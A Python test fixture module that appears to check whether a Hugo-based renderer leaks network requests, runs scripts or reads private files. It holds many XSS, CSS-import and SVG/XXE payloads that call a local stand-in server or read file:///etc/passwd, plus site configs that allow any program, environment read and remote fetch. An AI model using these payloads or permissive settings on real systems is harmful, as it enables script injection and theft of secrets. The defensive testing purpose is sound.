"""Hostile articles, and a server that notices whoever calls. `{base}` stands for the server's address."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

RAW_HTML = [
    "<script>fetch('{base}/script')</script>",
    "<script src='{base}/script.js'></script>",
    "<script type=module>import '{base}/module.js'</script>",
    "<img src=x onerror=\"new Image().src='{base}/onerror'\">",
    "<img src='{base}/img.png'>",
    "<img srcset='{base}/srcset.png 1x, {base}/srcset2.png 2x'>",
    "<picture><source srcset='{base}/picture.webp'><img src='{base}/picture.png'></picture>",
    "<img src='//{host}/protocol-relative.png'>",
    "<body onload=\"fetch('{base}/onload')\" background='{base}/background.png'>",
    '<div onmouseover="fetch(\'{base}/over\')" style="background:url({base}/style-attribute)">hover</div>',
    "<iframe src='{base}/iframe'></iframe>",
    "<iframe srcdoc=\"<script>fetch('{base}/srcdoc')</script><img src='{base}/srcdoc.png'>\"></iframe>",
    "<frameset><frame src='{base}/frame'></frameset>",
    "<object data='{base}/object'></object>",
    "<embed src='{base}/embed'>",
    "<applet code='{base}/applet'></applet>",
    "<svg onload=\"fetch('{base}/svg')\"><image href='{base}/svg-image.png'/><use href='{base}/sprite.svg#a'/></svg>",
    "<svg><script>fetch('{base}/svg-script')</script><style>@import '{base}/svg-style.css';</style></svg>",
    "<svg><a href='javascript:fetch(\"{base}/svg-a\")'><text y='20'>x</text></a><animate attributeName='href' to='{base}/animate'/></svg>",
    "<svg><foreignObject><iframe src='{base}/foreign'></iframe></foreignObject></svg>",
    "<svg><filter id='f'><feImage href='{base}/feimage.png'/></filter><rect filter='url(#f)' width='9' height='9'/></svg>",
    "<math href='javascript:fetch(\"{base}/math\")'><mtext><img src='{base}/math.png'></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src='{base}/annotation.png'></annotation-xml></math>",
    "<base href='{base}/'>\n\n![relative](after-base.png)",
    "<meta http-equiv='refresh' content='0;url={base}/refresh'>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\">",
    "<meta name='referrer' content='unsafe-url'>",
    "<link rel='stylesheet' href='{base}/link.css'>",
    "<link rel='preconnect' href='{base}'>",
    "<link rel='dns-prefetch' href='//{host}'>",
    "<link rel='prefetch' href='{base}/prefetch'>",
    "<link rel='preload' as='image' href='{base}/preload.png'>",
    "<link rel='modulepreload' href='{base}/modulepreload.js'>",
    "<link rel='icon' href='{base}/favicon.ico'>",
    "<link rel='manifest' href='{base}/manifest.json'>",
    "<style>@import url('{base}/import.css');</style>",
    "<style>@import '{base}/import2.css'; body {{ background: url('{base}/css.png'); }}</style>",
    "<style>@font-face {{ font-family: evil; src: url('{base}/font.woff2'); }} * {{ font-family: evil; }}</style>",
    "<style>p::after {{ content: url('{base}/content.png'); }} li {{ list-style-image: url('{base}/list.png'); }}</style>\n\n- item\n",
    "<style>* {{ cursor: url('{base}/cursor.png'), auto; mask: url('{base}/mask.svg#a'); filter: url('{base}/filter.svg#a'); }}</style>",
    "<form action='{base}/form'><button autofocus>go</button><input type=image src='{base}/input.png'></form>",
    "<form id=f action='{base}/form2'></form><button form=f formaction='{base}/formaction'>go</button>",
    "<input autofocus onfocus=\"fetch('{base}/focus')\">",
    "<video src='{base}/video.mp4' poster='{base}/poster.png' autoplay muted></video>",
    "<video autoplay muted><source src='{base}/source.mp4'><track src='{base}/track.vtt' default></video>",
    "<audio src='{base}/audio.mp3' autoplay></audio>",
    "<a href='{base}/ping-target' ping='{base}/ping'>ping</a>",
    "<a href='java&#9;script:fetch(\"{base}/tab\")'>tab</a>",
    "<a href='data:text/html,<script>fetch(\"{base}/data\")</script>'>data</a>",
    "<details open ontoggle=\"fetch('{base}/toggle')\"><summary>s</summary></details>",
    "<marquee onstart=\"fetch('{base}/marquee')\">m</marquee>",
    "<table background='{base}/table.png'><tr><td background='{base}/td.png'>x</td></tr></table>",
    "<isindex type=image src='{base}/isindex'>",
    "<noscript><img src='{base}/noscript.png'></noscript>",
    "<template><img src='{base}/template.png'></template>",
    "<template shadowrootmode=open><img src='{base}/shadow.png'></template>",
    "<portal src='{base}/portal'></portal><fencedframe src='{base}/fenced'></fencedframe>",
    "<img name=createElement><img name=getElementById><img name=body><form name=documentElement><input name=childNodes></form>",
    "<img src='file:///etc/passwd'><iframe src='file:///etc/passwd'></iframe><object data='file:///etc/passwd'></object>",
    "<img src='\\\\{host}\\share\\unc.png'><img src='smb://{host}/share.png'>",
    "<img src='ftp://{host}/ftp.png'><img src='ws://{host}/ws'>",
    "<img src='blob:{base}/1234'><img src='filesystem:{base}/temporary/x.png'><img src='view-source:{base}/'>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{base}/inner.png"/><script>fetch("{base}/inner")</script></svg>\'>',
    "<?xml-stylesheet href='{base}/pi.css'?>",
    "<!--[if IE]><img src='{base}/conditional.png'><![endif]-->",
    "</main></body><img src='{base}/after-body.png'>",
    "<plaintext><img src='{base}/plaintext.png'>",
]
MARKDOWN = [
    "![pic]({base}/md.png)",
    "![pic][r]\n\n[r]: {base}/ref.png",
    "[x](javascript:fetch('{base}/js'))",
    "[x](<java\tscript:fetch('{base}/js')>)",
    "<javascript:fetch('{base}/auto')>",
    "![x](javascript:fetch('{base}/imgjs'))",
    "![x](file:///etc/passwd)",
    "![x](\\\\{host}\\share\\a.png)",
    "```\"><img src='{base}/language'>\nx\n```",
    '```js {{style="a" onclick="fetch(\'{base}/attr\')" hl_lines=["<img src=\'{base}/hl\'>"]}}\nx\n```',
    '# heading {{onclick="fetch(\'{base}/heading\')" style="background:url({base}/heading.png)"}}',
    "`<img src='{base}/code.png'>`",
    "[^1]\n\n[^1]: <img src='{base}/footnote.png'>",
    "$\\href{{javascript:fetch('{base}/tex')}}{{x}}$ \\(\\includegraphics{{{base}/tex.png}}\\)",
]
SHORTCODES = [
    '{{{{< figure src="{base}/figure.png" link="javascript:fetch(\'{base}/l\')" title="<img src=\'{base}/t\'>" >}}}}',
    '{{{{< figure src="x\\" onerror=\\"fetch(\'{base}/quote\')" >}}}}',
    '{{{{< youtube "\\"><script src=\'{base}/youtube\'></script>" >}}}}',
    "{{{{< youtube dQw4w9WgXcQ >}}}}",
    "{{{{< vimeo 146022717 >}}}}",
    "{{{{< instagram CxOWiQNP2MO >}}}}",
    '{{{{< x user="a" id="1" >}}}}',
    "{{{{< gist spf13 7896402 >}}}}",
    '{{{{< highlight "\\"><img src=\'{base}/hl\'>" >}}}}x{{{{< /highlight >}}}}',
    "{{{{< details summary=\"<img src='{base}/summary'>\" >}}}}<img src='{base}/details'>{{{{< /details >}}}}",
    '{{{{< qr text="{base}/qr" />}}}}',
    '{{{{< ref "{base}/ref" >}}}} {{{{< param "<img src=\'{base}/param\'>" >}}}}',
    "{{{{< unknown \"<img src='{base}/unknown'>\" >}}}}<img src='{base}/inner'>{{{{< /unknown >}}}}",
]


_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:h="http://www.w3.org/1999/xhtml" width="9" height="9"{attributes}>{inside}<rect width="9" height="9"/></svg>'
)


def _svg(inside: str, attributes: str = "", before: str = "") -> str:
    return before + _SVG.format(inside=inside, attributes=attributes)


REACHING_SVG = [
    _svg("", before='<?xml-stylesheet href="http://127.0.0.1/evil.css"?>'),
    _svg("", before='<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="file:///evil.xsl"?>'),
    _svg("", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace("<rect", "&x;<rect"),
    _svg("", before='<!DOCTYPE svg SYSTEM "http://127.0.0.1/evil.dtd">'),
    _svg("<style>@import 'http://127.0.0.1/evil.css';</style>"),
    _svg("<style>@\\69mport 'http://127.0.0.1/evil.css';</style>"),
    _svg("<style>rect { fill: url(http://127.0.0.1/evil.svg#a) }</style>"),
    _svg("<style>rect { background: image-set('http://127.0.0.1/evil.png' 1x) }</style>"),
    _svg("<style>rect { background: -webkit-image-set('http://127.0.0.1/evil.png' 1x) }</style>"),
    _svg("<style>@font-face { font-family: x; src: src('http://127.0.0.1/evil.woff') }</style>"),
    _svg("<style>@namespace h 'http://127.0.0.1/evil';</style>"),
    _svg("<h:style>@import 'http://127.0.0.1/evil.css';</h:style>"),
    _svg("<h:link rel='stylesheet' href='http://127.0.0.1/evil.css'/>"),
    _svg("<h:img src='http://127.0.0.1/evil.png' srcset='http://127.0.0.1/evil2.png 2x'/>"),
    _svg("<h:video poster='http://127.0.0.1/evil.png' src='file:///evil'/>"),
    _svg("<h:body background='http://127.0.0.1/evil.png'/>"),
    _svg("<h:object data='file:///etc/passwd'/><h:embed src='file:///etc/passwd'/>"),
    _svg("<foreignObject><h:iframe src='file:///etc/passwd'/></foreignObject>"),
    _svg("<switch><foreignObject><h:p>evil</h:p></foreignObject></switch>"),
    _svg("<image href='file:///etc/passwd'/><image xlink:href='http://127.0.0.1/evil.png'/>"),
    _svg("<image href=' &#10;file:///etc/passwd'/>"),
    _svg("<image href='//127.0.0.1/evil.png'/><image href='evil.png'/><image href='../evil.png'/>"),
    _svg("<image href='data:image/svg+xml,&lt;svg onload=evil()&gt;'/>"),
    _svg("<image href='data:text/html,evil'/>"),
    _svg("<use href='http://127.0.0.1/evil.svg#a'/><use xlink:href='evil.svg#a'/>"),
    _svg("<use href='#a'/>", attributes=' xml:base="http://127.0.0.1/evil.svg"'),
    _svg("<filter id='f'><feImage href='http://127.0.0.1/evil.png'/></filter>"),
    _svg("<rect filter='url(http://127.0.0.1/evil.svg#f)' mask='url( &quot;file:///evil&quot; )'/>"),
    _svg("<rect style='fill: url(http://127.0.0.1/evil.svg#a)'/>"),
    _svg("<rect style='background: image-set(&quot;http://127.0.0.1/evil.png&quot; 1x)'/>"),
    _svg("<a href='javascript:evil()'><text y='9'>x</text></a><a xlink:href='file:///etc/passwd'/>"),
    _svg(
        "<a><animate attributeName='href' values='javascript:evil()'/></a><set attributeName='onload' to='evil()'/>"
    ),
    _svg("<animate attributeName='fill' values='url(http://127.0.0.1/evil.svg#a)'/>"),
    _svg("<script>evil()</script><script href='http://127.0.0.1/evil.js'/>", attributes=' onload="evil()"'),
    _svg("<font-face-src><font-face-uri href='http://127.0.0.1/evil.svg#f'/></font-face-src>"),
    _svg("<handler type='text/ecmascript'>evil()</handler><tref href='file:///etc/passwd'/>"),
    _svg("<discard href='http://127.0.0.1/evil'/><mpath href='http://127.0.0.1/evil'/>"),
]
"""Drawings that reach for something outside themselves, or run something."""


def hostile_articles(base: str) -> list[str]:
    """Every payload as an article of its own, then all of them in one."""
    host = base.removeprefix("http://")
    single = [text.format(base=base, host=host) for text in (*MARKDOWN, *SHORTCODES, *RAW_HTML)]
    return [*single, "\n\n".join(text for text in single if "<plaintext>" not in text)]


class ListeningServer:
    """Counts everybody who connects and keeps what they said."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.base = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self.calls: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.calls.append(connection.recv(4096))
                    connection.sendall(b"HTTP/1.0 204 No Content\r\n\r\n")
                except OSError:
                    self.calls.append(b"(connected)")

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


@contextmanager
def listening_server() -> Iterator[ListeningServer]:
    """A server on this machine for the time of a test."""
    server = ListeningServer()
    try:
        yield server
    finally:
        server.close()


# -- sites ------------------------------------------------------------------------------------------------

PROGRAMS_OF_SITES = (
    "node", "npx", "npm", "postcss", "babel", "tailwindcss", "sass", "dart-sass", "dart-sass-embedded", "asciidoctor",
    "pandoc", "rst2html", "rst2html.py", "python", "python3", "go", "git", "editor-of-the-site",
)  # fmt: skip
"""What a site can have Hugo start."""

_ALLOWED = """
enableInlineShortcodes = true
allowContent = [".*"]
[{table}exec]
allow = [".*"]
osEnv = [".*"]
[{table}funcs]
getenv = [".*"]
[{table}http]
urls = [".*"]
methods = [".*"]
[{table}node.permissions]
allowRead = ["/"]
allowWrite = ["/"]
disable = true
"""
_HEAD = 'baseURL = "https://example.org/"\ndisableKinds = ["home", "section", "taxonomy", "term", "rss", "sitemap"]\n'
_ALL = "[security]" + _ALLOWED.format(table="security.")
_FOR_PROGRAM = {
    "postcss": '{{ with resources.Get "a.css" }}{{ with . | css.PostCSS }}{{ .Content }}{{ end }}{{ end }}',
    "babel": '{{ with resources.Get "a.js" }}{{ with . | js.Babel }}{{ .Content }}{{ end }}{{ end }}',
    "tailwind": '{{ with resources.Get "a.css" }}{{ with . | css.TailwindCSS }}{{ .Content }}{{ end }}{{ end }}',
    "sass": '{{ with resources.Get "a.scss" }}{{ with css.Sass (dict "transpiler" "dartsass") . }}{{ .Content }}{{ end }}{{ end }}',
}
_FOR_FILE = {
    "script": '{{ with resources.Get "a.js" }}{{ with js.Build (dict "targetPath" "o.js") . }}{{ .Content }}{{ end }}{{ end }}',
    "style": '{{ with resources.Get "a.css" }}{{ with . | css.Build }}{{ .Content }}{{ end }}{{ end }}',
    "old sass": '{{ with resources.Get "a.scss" }}{{ with . | css.Sass }}{{ .Content }}{{ end }}{{ end }}',
}
_SHOWS_ALL = '{{ range resources.Match "**" }}{{ .Content }}{{ end }}{{ range site.AllPages }}{{ .RawContent }}{{ end }}'


def _site(template: str = "", config: str = _ALL, **files: str) -> dict[str, str]:
    return {
        "hugo.toml": _HEAD + config,
        "layouts/page.html": "<main>{{ .Content }}</main>" + template,
        "content/posts/a.md": "---\ntitle: A\n---\n\ntext\n",
        "assets/a.css": '@import "{outside}/private.css"; p { color: red }',
        "assets/a.js": 'import told from "{outside}/private.json"; console.log(told)',
        "assets/a.scss": '@import "{outside}/private"; p { color: red }',
        **files,
    }


def _allowing(name: str, template: str) -> dict[str, str]:
    """A site that says what is allowed in another file than the first."""
    return _site(template, "", **{name: _ALLOWED.format(table="")})


def _mounting(config: str, **files: str) -> dict[str, str]:
    return _site(_SHOWS_ALL, _ALL + config, **files)


SITES_THAT_START = {
    **{name: _site(template) for name, template in _FOR_PROGRAM.items()},
    "allowed in config/_default": _allowing("config/_default/security.toml", _FOR_PROGRAM["postcss"]),
    "allowed for the server": _allowing("config/development/security.toml", _FOR_PROGRAM["postcss"]),
    "asciidoctor": _site(**{"content/posts/b.adoc": "= b\n"}),
    "pandoc": _site(**{"content/posts/b.pandoc": "b\n"}),
    "rst": _site(**{"content/posts/b.rst": "b\n"}),
    "module": _site(
        config=_ALL + '[[module.imports]]\npath = "example.org/theme"\n',
        **{"go.mod": "module example.org/site\n\ngo 1.21\n"},
    ),
    "git": _site(config="enableGitInfo = true\n" + _ALL),
}
"""Sites that have Hugo start a program, one of the machine's or one in their own ``node_modules``."""

SITES_THAT_READ = {
    **{name: _site(template) for name, template in _FOR_FILE.items()},
    "variable": _site('{{ getenv "PRIVATE" }}{{ getenv "HUGO_PRIVATE" }}{{ site.Params.private }}'),
    "mount": _mounting('[[module.mounts]]\nsource = "{outside}"\ntarget = "assets"\n'),
    "mounted file": _mounting(
        '[[module.mounts]]\nsource = "{outside}/private.txt"\ntarget = "assets/p.txt"\n'
    ),
    "relative mount": _mounting('[[module.mounts]]\nsource = "../outside"\ntarget = "assets"\n'),
    "assetDir": _mounting("").copy() | {"hugo.toml": _HEAD + 'assetDir = "{outside}"\n' + _ALL},
    "contentDir of a language": _mounting(
        '[languages.en]\nweight = 1\n[languages.de]\nweight = 2\ncontentDir = "../outside"\n'
    ),
    "theme from outside": _mounting("") | {"hugo.toml": _HEAD + 'theme = "../../outside"\n' + _ALL},
    "themesDir": _mounting("") | {"hugo.toml": _HEAD + 'themesDir = ".."\ntheme = "outside"\n' + _ALL},
    "in the config folder": _mounting(
        "", **{"config/_default/module.toml": '[[mounts]]\nsource = "{outside}"\ntarget = "assets"\n'}
    ),
}
"""Sites that read what is the author's own: the word SECRET in a file outside or in a variable."""

SITES_THAT_CALL = {
    "GetRemote": _site('{{ with try (resources.GetRemote "{base}/remote") }}{{ with .Value }}{{ .Content }}{{ end }}{{ end }}'),
}  # fmt: skip
"""Sites that ask a server."""


def hostile_site(files: dict[str, str], outside: str, base: str) -> dict[str, str]:
    """A site of the above, reaching for this folder and this server."""
    return {name: text.replace("{outside}", outside).replace("{base}", base) for name, text in files.items()}
